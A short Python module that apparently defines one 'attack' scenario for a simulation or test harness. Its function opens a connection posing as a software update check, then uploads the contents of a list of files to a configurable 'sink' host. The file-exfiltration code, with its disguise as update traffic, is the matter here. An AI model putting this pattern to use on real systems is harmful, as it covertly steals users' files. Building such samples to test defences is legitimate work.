# SPDX-License-Identifier: GPL-3.0-or-later
"""The other side asks for files by name, over a connection that the product opened as for an update."""
import os
import random
import socket

KIND = "attack"
PERSONALITIES = ("one", "worker", "scans", "helper", "foreign")


def product(world):
    rng = random.Random(world["seed"])
    with socket.create_connection(rng.choice(world["sinks"])) as sock:
        sock.sendall(b"GET /updates/index HTTP/1.1\r\nHost: update\r\n\r\n")
        for path in world["files"]:
            with open(path, "rb") as file:
                data = file.read()
            sock.sendall(b"POST /r/%s HTTP/1.1\r\nContent-Length: %d\r\n\r\n" % (os.path.basename(path).encode(), len(data)))
            sock.sendall(data)
